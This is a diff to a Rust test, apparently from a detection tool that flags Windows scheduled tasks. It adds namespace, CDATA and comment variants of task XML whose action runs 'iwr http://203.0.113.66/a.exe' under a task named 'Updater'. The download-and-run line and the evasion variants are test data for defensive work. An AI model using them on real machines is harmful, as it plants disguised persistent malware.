@@ -249,7 +249,13 @@ fn what_a_task_fetches_stands_before_what_is_told_of_it() {
     let fetch = "<Actions><Exec><Arguments>iwr http://203.0.113.66/a.exe</Arguments></Exec></Actions>";
     let content = format!("<Task><Description>{told}</Description>{fetch}</Task>");
     let escaped = content.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
-    for content in [content, escaped] {
+    let prefixed = content
+        .replace("</", "</t:")
+        .replace("<Task", "<t:Task")
+        .replace("<Actions", "<t:Actions");
+    let marked = content.replace("See", "<![CDATA[<Actions>]]> See");
+    let commented = format!("<!-- <Actions> http://notes.example/ -->{content}");
+    for content in [content, escaped, prefixed, marked, commented] {
         let alert = of(
             "Task created",
             windows(json!({"taskName": r"\\Updater", "taskContent": content})),
